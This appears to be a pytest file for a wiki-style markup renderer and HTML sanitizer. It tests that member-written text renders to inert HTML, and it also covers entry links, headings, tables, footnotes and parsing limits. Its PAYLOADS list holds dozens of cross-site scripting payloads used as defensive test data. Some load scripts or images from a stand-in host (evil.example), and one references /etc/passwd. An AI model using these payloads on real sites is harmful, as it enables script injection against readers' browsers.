"""The renderer and the sanitizer, each also tested with the other out of the way."""

import sys
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repertoire import dialect, markup
from repertoire.markup import EntryLink, Link
from repertoire.sanitizer import is_on_site, is_safe, sanitize
from repertoire.vocabulary import Term, Vocabulary

BLANK = Term("field-blank", "Field blank", "/blank/", aliases=("trip blank",))
ENTRIES = {
    "kit list": EntryLink("kit-list", "Kit list", "/kit/"),
    "field blank": EntryLink("field-blank", "Field blank", "/blank/", is_term=True),
}
TAGS = {
    *("p", "br", "hr", "blockquote", "pre", "code", "em", "strong", "s", "sup", "a"),
    *("img", "span", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "dl", "dt", "dd"),
    *("input", "div", "table", "thead", "tbody", "tr", "th", "td", "section"),
}
ATTRIBUTES = {
    *("href", "rel", "id", "class", "src", "alt", "title", "loading", "start", "type"),
    *("disabled", "checked", "role", "scope", "tabindex", "aria-label"),
}

#: Each of these runs or calls out somewhere, in a browser, when nothing guards.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    '<img src="//evil.example/pixel.png">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a id=main name=forms href=/>x</a>",
    "<img name=getElementById>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<template><script>alert(1)</script></template>",
    "<div hx-get='/logout' hx-trigger=load>x</div>",
    "<script",
    "<img src='x' onerror='alert(1)'",
    '<a href="x" onclick=\'alert(1)',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java\tscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:x) [y](file:///etc/passwd)",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](//evil.example/x.png)",
    "![x](https://evil.example/x.png)",
    '![x](/a.png"onerror="alert(1))',
    '![x](/a.png "x\\" onerror=\\"alert(1)")',
    '[x](/a "x\\" onmouseover=\\"alert(1)")',
    '![x" onerror="alert(1)](/a.png)',
    "[![x](https://evil.example/x.png)](https://evil.example)",
    "<javascript:alert(1)>",
    '<https://evil.example/"onmouseover=alert(1)>',
    'https://evil.example/"onmouseover="alert(1)',
    "[[<img src=x onerror=alert(1)>]]",
    "[[kit list|<img src=x onerror=alert(1)>]]",
    "[[[[kit list]]|x]]",
    '[[" onclick="alert(1)]]',
    '```"><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
    "|a|\n|:-:|\n|<script>alert(1)</script>|",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: x",
    "# <script>alert(1)</script>",
    '# " onclick="alert(1)',
    "- [x] <script>alert(1)</script>",
    "@<script>alert(1)</script> #<script>",
]


class Seen(HTMLParser):
    """Every tag and attribute, as a browser would meet them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def all(self, tag):
        return [attrs for name, attrs in self.tags if name == tag]


def assert_inert(html: str) -> None:
    for tag, attributes in Seen(html).tags:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES
        assert attributes.get("id") is None or attributes["id"].startswith("text-")
        assert is_safe(attributes.get("href") or "")
        source = attributes.get("src")
        assert source is None or (source.startswith("/") and is_on_site(source))


def render(text: str, **given) -> markup.Rendered:
    return markup.render(
        text,
        **{
            "anchor_prefix": "text",
            "resolve_entry": lambda name: ENTRIES.get(name.lower()),
            "wanted_url": lambda name: "/new/",
            "resolve_task": lambda n: (
                Link(f"/tasks/{n}/", "Sheets") if n < 100 else None
            ),
            "resolve_member": lambda h: Link("/maya/", "Maya") if h == "maya" else None,
            "terms": Vocabulary([BLANK]),
            **given,
        },
    )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_a_member_writes_runs_in_a_readers_browser(payload):
    for text in (payload, f"before {payload} after", f"> - {payload}\n\n{payload}"):
        assert_inert(render(text).html)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_sanitizer_holds_alone(payload):
    assert_inert(sanitize(payload, anchor_prefix="text"))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_renderer_holds_alone(payload, monkeypatch):
    monkeypatch.setattr(markup, "sanitize", lambda html, anchor_prefix: html)

    assert_inert(render(payload).html)


@settings(max_examples=300)
@given(
    st.lists(
        st.sampled_from(
            [*PAYLOADS, *"[]()<>!*_`~|#@&^:\\\"'\n \t-+=1.ax", "[[", "]]", "\n\n", "  "]
        ),
        max_size=30,
    ).map("".join)
    | st.text(max_size=300)
)
def test_any_text_renders_to_inert_html(text):
    assert_inert(render(text).html)


def test_the_text_itself_survives_as_text():
    html = render("a <b>bold</b> claim & <script>alert(1)</script>").html

    assert html == (
        "<p>a &lt;b&gt;bold&lt;/b&gt; claim &amp; "
        "&lt;script&gt;alert(1)&lt;/script&gt;</p>\n"
    )


def test_an_entry_is_linked_by_its_name_or_in_other_words():
    rendered = render("Pack by [[kit list]], or [[Kit list|the list]].")

    assert rendered.html == (
        '<p>Pack by <a class="entry" href="/kit/">kit list</a>, or '
        '<a class="entry" href="/kit/">the list</a>.</p>\n'
    )
    assert rendered.entries == ("kit-list",)


def test_a_linked_term_explains_itself_and_is_not_marked_again():
    rendered = render("A [[field blank]] is a field blank.")

    assert rendered.html == (
        '<p>A <a class="term" href="/blank/">field blank</a> is a field blank.</p>\n'
    )
    assert rendered.terms == ("field-blank",)


def test_an_entry_nobody_has_written_is_wanted():
    rendered = render("A [[lock spike]] again.")

    assert '<a class="wanted" href="/new/">lock spike</a>' in rendered.html
    assert rendered.wanted == ("lock spike",)


def test_a_wanted_entry_has_no_link_where_nobody_can_write_it():
    html = render("A [[lock spike]].", wanted_url=None).html

    assert html == '<p>A <span class="wanted">lock spike</span>.</p>\n'


@pytest.mark.parametrize(
    "text",
    ["`[[kit list]] #12 @maya`", "    [[kit list]] #12", "```\n[[kit list]]\n```"],
)
def test_code_is_left_as_it_is(text):
    rendered = render(text)

    assert (rendered.entries, rendered.tasks, rendered.members) == ((), (), ())
    assert Seen(rendered.html).all("a") == []


def test_tasks_and_members_are_linked_at_the_start_of_words_only():
    rendered = render("See #12 (with @maya), not a#12, #1200, x@maya.org or @bea.")

    assert rendered.tasks == (12,)
    assert rendered.members == ("maya",)
    assert [a["href"] for a in Seen(rendered.html).all("a")] == [
        "/tasks/12/",
        "/maya/",
        "mailto:x@maya.org",
    ]


def test_a_term_is_marked_where_first_met_and_never_in_code_links_or_headings():
    html = render(
        "# Field blank\n\n`field blank` [a field blank](/x) field\nblanks, field blank"
    ).html

    assert html.count('class="term"') == 1
    assert '<a class="term" href="/blank/">field\nblanks</a>' in html


def test_links_that_lead_away_say_so_to_search_engines():
    html = render(
        "[a](https://a.example) https://b.example/x, [c](/here) <x@y.example>"
    ).html

    rels = {a["href"]: a.get("rel") for a in Seen(html).all("a")}
    assert rels == {
        "https://a.example": "nofollow ugc noopener",
        "https://b.example/x": "nofollow ugc noopener",
        "/here": None,
        "mailto:x@y.example": "nofollow ugc noopener",
    }


@pytest.mark.parametrize(
    ("written", "address"),
    [
        ("(https://a.example/b)", "https://a.example/b"),
        ("https://a.example/b_(c).", "https://a.example/b_(c)"),
        ("https://a.example/?q=1&r=2!", "https://a.example/?q=1&r=2"),
        ("https://a.example/#12", "https://a.example/#12"),
    ],
)
def test_an_address_ends_before_the_sentences_punctuation(written, address):
    (link,) = Seen(render(written).html).all("a")

    assert link["href"] == address


def test_a_picture_from_elsewhere_is_a_link_and_ours_is_a_picture():
    html = render("![pier](https://a.example/p.png) ![ours](/media/p.png)").html

    seen = Seen(html)
    assert [a["href"] for a in seen.all("a")] == ["https://a.example/p.png"]
    assert seen.all("img") == [
        {"src": "/media/p.png", "alt": "ours", "loading": "lazy"}
    ]


def test_a_title_stays_with_its_link_or_picture():
    html = render(
        '[a](/a "one") ![b](/b.png "two") ![c](https://a.example/c.png "three")'
    ).html

    seen = Seen(html)
    assert [a["title"] for a in seen.all("a")] == ["one", "three"]
    assert [img["title"] for img in seen.all("img")] == ["two"]


def test_headings_stand_below_the_pages_own_and_can_be_reached():
    rendered = render("# One\n\n## Two\n\n# One\n\n[up](#one)")

    assert [(h.level, h.anchor) for h in rendered.headings] == [
        (2, "text-one"),
        (3, "text-two"),
        (2, "text-one:2"),
    ]
    assert '<h2 id="text-one">One</h2>' in rendered.html
    assert '<a href="#text-one">up</a>' in rendered.html


def test_a_text_deep_in_a_page_starts_further_down():
    html = render("# One\n\n## Two", below_heading=3).html

    assert '<h4 id="text-one">' in html
    assert '<h5 id="text-two">' in html


def test_no_level_of_heading_is_skipped_whatever_the_text_begins_with():
    rendered = render("### One\n\n###### Deep\n\n#### Two\n\n## Top")

    assert [h.level for h in rendered.headings] == [2, 3, 4, 2]


def test_tables_are_aligned_by_class_and_can_be_scrolled_by_keyboard():
    html = render("|a|b|c|\n|:-|-:|:-:|\n|1|2|3|").html

    assert html.startswith('<div class="tbl-scroll" role="group" tabindex="0"')
    classes = [td["class"] for td in Seen(html).all("td")]
    assert classes == ["align-left", "align-right", "align-center"]
    assert "style" not in html


def test_a_checklist_is_read_out_and_cannot_be_ticked():
    html = render("- [x] rinse\n- [ ] label\n- plain").html

    assert [box["aria-label"] for box in Seen(html).all("input")] == ["Done", "To do"]
    assert all("disabled" in box for box in Seen(html).all("input"))
    assert '<ul class="checklist">' in html


def test_footnotes_lead_there_and_back():
    html = render("One[^a], two[^a], three^[in place].\n\n[^a]: Said so.").html

    seen = Seen(html)
    ids = {a["id"] for a in seen.all("a") + seen.all("li") if "id" in a}
    targets = {a["href"].removeprefix("#") for a in seen.all("a")}
    assert targets == ids
    assert '<section class="footnotes" aria-label="Footnotes">' in html


@pytest.mark.parametrize(
    "text",
    [
        "One[^1].\n\n[^1]:     1. [^1]: of the same name",
        "One[^1] and[^2].\n\n[^1]: outer\n\n    - [^2]: inner\n    - after",
    ],
)
def test_a_footnote_within_a_footnote_stands_beside_it(text):
    html = render(text).html

    assert ("inner" in html) == ("inner" in text)
    for tag in ("ol", "ul", "li", "p", "section"):
        assert html.count(f"<{tag}") == html.count(f"</{tag}>")


def test_a_definition_list_strikes_and_breaks():
    html = render("Term\n: Meaning\n\n~~gone~~  \nnext").html

    assert "<dl>\n<dt>Term</dt>\n<dd>Meaning</dd>\n</dl>" in html
    assert "<s>gone</s><br>\nnext" in html


def test_mentions_are_known_before_rendering():
    mentions = markup.mentioned("[[Kit list|it]] #12", "@Maya [[ field blank ]]")

    assert mentions.entries == {"Kit list", "field blank"}
    assert mentions.tasks == {12}
    assert mentions.members == {"maya"}


@given(st.lists(st.sampled_from(["[[kit list]]", "[[lock spike|x]]", "#12", "@maya"])))
def test_what_is_met_was_announced(pieces):
    text = " and ".join(pieces)

    rendered, mentions = render(text), markup.mentioned(text)

    assert set(rendered.tasks) <= mentions.tasks
    assert set(rendered.members) <= mentions.members
    assert set(rendered.wanted) <= mentions.entries
    assert bool(rendered.entries) == ("[[kit list]]" in pieces)


def test_a_text_too_long_to_read_is_refused_with_a_way_out():
    with pytest.raises(markup.TooLong, match=r"200,001 characters.*several entries"):
        render("a" * (markup.LONGEST + 1))


def calls_to_render(text: str) -> int:
    """How many functions rendering calls: the same on every machine, unlike seconds."""
    calls = 0

    def count(*_):
        nonlocal calls
        calls += 1

    sys.setprofile(count)
    try:
        render(text)
    finally:
        sys.setprofile(None)
    return calls


@pytest.mark.parametrize(
    "unit",
    [
        *("[", "![", "[[", "[[a|", "](", "[a](", "[a](<", "[](", "^[", "[^1]", "[a]"),
        *(
            "*a ",
            "**a*",
            "_a _",
            "~~a ~",
            "*_~~",
            "a**b",
            "`a``b```",
            "<",
            "<a ",
            "<!--",
        ),
        *("&", "&a;", "> ", "- ", "-\n", "1. ", "- [x] a\n", "* a\n * b\n", "a\n: b\n"),
        *("|", "|a\n", "a|b\n-|-\n", "[a]: b\n", "[^a]: x\n", "# a\n", "```\n", "\t> "),
        *(
            "a@",
            "x@x.x.",
            "http://",
            "http://a-",
            "http://a(",
            "ftp://a.b ",
            "#1 ",
            "@a-",
        ),
        *("field ", "blank field ", "field blank"),
    ],
)
def test_the_work_grows_no_faster_than_the_text(unit):
    size = 800
    once = calls_to_render((unit * size)[:size])
    fourfold = calls_to_render((unit * size * 4)[: size * 4])

    assert fourfold < 6 * max(once, 800)


def test_quotes_that_look_for_more_of_themselves_in_vain_give_up(monkeypatch):
    monkeypatch.setattr(dialect, "MOST_LOOKED_AT", 50)
    unit = ">     foo\n    bar\n"

    once, fourfold = calls_to_render(unit * 100), calls_to_render(unit * 400)

    assert fourfold < 6 * once
    assert "<p>said\nso</p>" in render("> said\nso\n\n" * 2).html


@pytest.mark.parametrize("unit", ["> ", "- ", "1. ", "*", "[", "**_", "![", "- > "])
def test_nesting_has_a_bottom(unit):
    html = render(unit * 5_000 + "a").html

    deepest = depth = 0
    for piece in html.split("<")[1:]:
        depth += -1 if piece.startswith("/") else 1
        deepest = max(deepest, depth)
    assert deepest <= 3 * dialect.DEEPEST


def test_each_sections_heading_leads_to_where_it_is_edited():
    html = markup.render(
        "# A & *b*\n\n> ## Said\n\n```\n# No\n```\n## A & b",
        anchor_prefix="t",
        edit_url=lambda name: f"/edit/?section={name}&x",
    ).html

    assert html.count('class="sub"') == 2
    assert (
        '<div class="section-h"><h2 id="t-a-b">A &amp; <em>b</em></h2><a class="sub"'
        ' href="/edit/?section=a-b&amp;x" aria-label="Edit: A &amp; b">Edit</a></div>'
    ) in html
    assert "section=a-b:2" in html


def test_some_lines_look_as_they_do_within_the_whole():
    text = "Once.[^a]\n\n## B\n\n[There][x], twice.[^b]\n\n## C\n\n[^a]: No.\n[^b]: Yes.\n\n[x]: /there/"

    html = markup.render(text, anchor_prefix="t", only=(2, 6)).html

    assert '<a href="/there/">There</a>' in html
    assert 'href="#t-note:2"' in html
    assert "Yes." in html
    for left_out in ("Once", "No.", '<h2 id="t-c"'):
        assert left_out not in html
    assert "<section" not in markup.render(text, anchor_prefix="t", only=(6, 8)).html


def test_cells_of_a_tables_head_say_what_they_head():
    html = markup.render("|a|b|\n|-|-:|\n|1|2|", anchor_prefix="t").html

    assert '<th scope="col">a</th>' in html
    assert '<th scope="col" class="align-right">b</th>' in html
